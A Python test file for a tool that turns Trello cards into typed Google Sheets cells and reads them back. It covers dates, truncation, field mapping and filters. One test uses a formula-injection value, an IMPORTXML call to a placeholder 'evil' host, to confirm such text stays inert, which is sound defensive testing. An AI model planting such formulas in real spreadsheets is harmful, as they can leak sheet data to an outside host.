"""Card fields to typed cells, and sheet cells back to values."""

from __future__ import annotations

from datetime import UTC, date, datetime

import pytest

from app.core.decode import board_from_json, decode_cell, tab_from_cells
from app.core.mapping import CUT_MARKER, MAX_CELL_CHARS, board_rows, date_cell, field_mapper, text_cell
from app.core.model import Card, Cell, Formula
from tests.support.boardjson import board, card, policy


def _serial(day: date) -> int:
    return (day - date(1899, 12, 30)).days


def test_formula_like_text_stays_text() -> None:
    evil = '=IMPORTXML("http://evil", "//a")'
    assert text_cell(evil) == Cell(evil)
    for prefix in "=+-@":
        assert text_cell(prefix + "1").value == prefix + "1"


def test_long_text_is_cut_with_a_visible_marker() -> None:
    cell = text_cell("x" * 60_000)
    assert isinstance(cell.value, str)
    assert len(cell.value) == MAX_CELL_CHARS and cell.value.endswith(CUT_MARKER)
    assert text_cell("y" * MAX_CELL_CHARS).value == "y" * MAX_CELL_CHARS


def test_dates_are_serials_in_the_pair_time_zone() -> None:
    # 23:30 UTC on 31 Dec is already 1 Jan in Paris, at half past midnight.
    cell = date_cell(datetime(2025, 12, 31, 23, 30, tzinfo=UTC), "Europe/Paris")
    assert cell.number_format == "DATE_TIME"
    assert cell.value == pytest.approx(_serial(date(2026, 1, 1)) + 0.5 / 24)
    midnight = date_cell(datetime(2026, 6, 30, 22, 0, tzinfo=UTC), "Europe/Paris")  # summer time
    assert midnight == Cell(float(_serial(date(2026, 7, 1))), number_format="DATE")
    assert date_cell(None, "UTC") == Cell(None)


def test_every_field_maps_to_a_typed_cell() -> None:
    c = Card(
        id="c1",
        name="N",
        list_name="Review",
        labels=("A", "", "B"),
        members=("Alice",),
        checklist_done=2,
        checklist_total=5,
        url="https://trello.com/c/x/1",
        short_url="https://trello.com/c/x",
        pos=2.0,
        due_complete=True,
        custom={"Ready": False, "Budget": 3.0},
    )
    types = {"Ready": "checkbox", "Budget": "number", "Channel": "list"}
    cells = {
        f: field_mapper(f, "UTC", types)(c)
        for f in ("id", "list", "labels", "members", "checklist", "position")
    }
    assert {f: x.value for f, x in cells.items()} == {
        "id": "c1",
        "list": "Review",
        "labels": "A, B",
        "members": "Alice",
        "checklist": "2/5",
        "position": 2.0,
    }
    assert field_mapper("url", "UTC", types)(c) == Cell(c.url, link=c.url)
    assert field_mapper("shortUrl", "UTC", types)(c).link == c.short_url
    assert field_mapper("dueComplete", "UTC", types)(c) == Cell(True, checkbox=True)
    assert field_mapper("custom:Ready", "UTC", types)(c) == Cell(False, checkbox=True)
    assert field_mapper("custom:Budget", "UTC", types)(c) == Cell(3.0)
    assert field_mapper("custom:Channel", "UTC", types)(c) == Cell(None)
    assert field_mapper("desc", "UTC", types)(c) == Cell(None)
    with pytest.raises(ValueError, match="unknown column field"):
        field_mapper("colour", "UTC", types)


def test_board_rows_apply_archived_and_filters() -> None:
    data = board(
        [
            card("c1", idList="l1", idLabels=["lb1"]),
            card("c2", idList="l2", idLabels=["lb1"]),
            card("c3", idList="l1", closed=True, idLabels=["lb1"]),
            card("c4", idList="l1"),
        ]
    )
    rows = board_rows(board_from_json(data), policy(lists=("Drafting",), labels=("Urgent",)))
    assert list(rows.rows) == ["c1"]
    assert rows.excluded == {"c2": "filtered", "c3": "archived", "c4": "filtered"}
    assert rows.card_count == 4 and rows.date_headers == ("Date",)
    kept = board_rows(board_from_json(data), policy(archived="keep"))
    assert list(kept.rows) == ["c1", "c2", "c3", "c4"]
    assert kept.rows["c1"]["Card ID"] == Cell("c1")


@pytest.mark.parametrize(
    ("data", "value"),
    [
        ({}, None),
        ({"userEnteredValue": {"stringValue": "=1+1"}}, "=1+1"),
        (
            {"userEnteredValue": {"formulaValue": "=1+1"}, "effectiveValue": {"numberValue": 2}},
            Formula("=1+1"),
        ),
        ({"userEnteredValue": {"numberValue": 3}}, 3.0),
        ({"userEnteredValue": {"boolValue": False}}, False),
        ({"userEnteredValue": {"stringValue": ""}}, None),
        ({"userEnteredValue": {"errorValue": {"type": "REF"}}, "formattedValue": "#REF!"}, "#REF!"),
    ],
)
def test_decode_cell(data: dict[str, object], value: object) -> None:
    decoded = decode_cell(data)
    assert decoded == value and type(decoded) is type(value)


def test_tab_from_cells_reads_headers_rows_and_tags() -> None:
    s = lambda v: {"userEnteredValue": {"stringValue": v}}  # noqa: E731
    tab = tab_from_cells(
        3,
        [[s(" Title "), {}, s("Card ID")], [s("a"), {}, s("c1")], []],
        [[{"metadataKey": "boardsheet.column", "metadataValue": "name"}], [], [{"metadataKey": "other"}]],
        frozen_rows=1,
    )
    assert tab.headers == ("Title", "", "Card ID")
    assert tab.column_tags == ("name", None, None)
    assert tab.rows == (("a", None, "c1"), ())
    assert tab.sheet_id == 3 and tab.frozen_rows == 1


def test_tab_from_snapshot_reads_a_connector_snapshot_without_importing_it() -> None:
    from types import SimpleNamespace

    from app.core.decode import tab_from_snapshot

    snapshot = SimpleNamespace(
        sheet_id=9,
        rows=[
            [{"userEnteredValue": {"stringValue": "Card ID"}}],
            [{"userEnteredValue": {"stringValue": "c1"}}],
        ],
        column_metadata=[[{"metadataKey": "boardsheet.column", "metadataValue": "id"}]],
        row_count=1000,
        column_count=5,
        frozen_rows=1,
    )
    tab = tab_from_snapshot(snapshot)
    assert (tab.sheet_id, tab.headers, tab.column_tags, tab.rows) == (9, ("Card ID",), ("id",), (("c1",),))
    assert (tab.column_count, tab.frozen_rows) == (5, 1)
